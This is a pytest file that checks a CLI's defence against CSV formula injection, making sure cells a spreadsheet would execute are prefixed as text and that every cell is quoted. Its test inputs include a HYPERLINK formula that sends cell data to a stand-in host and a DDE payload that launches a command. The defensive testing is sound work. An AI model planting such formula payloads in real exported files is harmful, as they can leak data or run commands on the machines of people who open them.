"""CSV cells a spreadsheet cannot run (agent/cli/_csvsafe.py)."""

from __future__ import annotations

import csv
import io

import pytest

from agent.cli._csvsafe import neutralise
from agent.cli._output import write_csv


@pytest.mark.parametrize(
    "planted",
    [
        "=1+2",
        "+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        "=cmd|'/C calc'!A0",
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(planted: str) -> None:
    assert neutralise(planted) == "'" + planted


@pytest.mark.parametrize(
    "kept", ["FT1-000101", "wd.6ziUffspAeW5FVYbaqmexR-1qwNjM", "20271122", "", "a=b", "x-1", 3, True]
)
def test_other_cells_are_left_as_they_are(kept: object) -> None:
    assert neutralise(kept) == kept


def test_every_cell_is_quoted_so_no_separator_splits_one() -> None:
    """The project's one CSV writer (export, cloud devices --csv) quotes and neutralises."""
    output = io.StringIO()
    write_csv([{"device_id": "FT1;=1+2", "hardware_id": "-1"}], ("device_id", "hardware_id"), output)
    assert output.getvalue().splitlines() == ['"device_id","hardware_id"', '"FT1;=1+2","\'-1"']
    [row] = list(csv.DictReader(io.StringIO(output.getvalue())))
    assert row == {"device_id": "FT1;=1+2", "hardware_id": "'-1"}
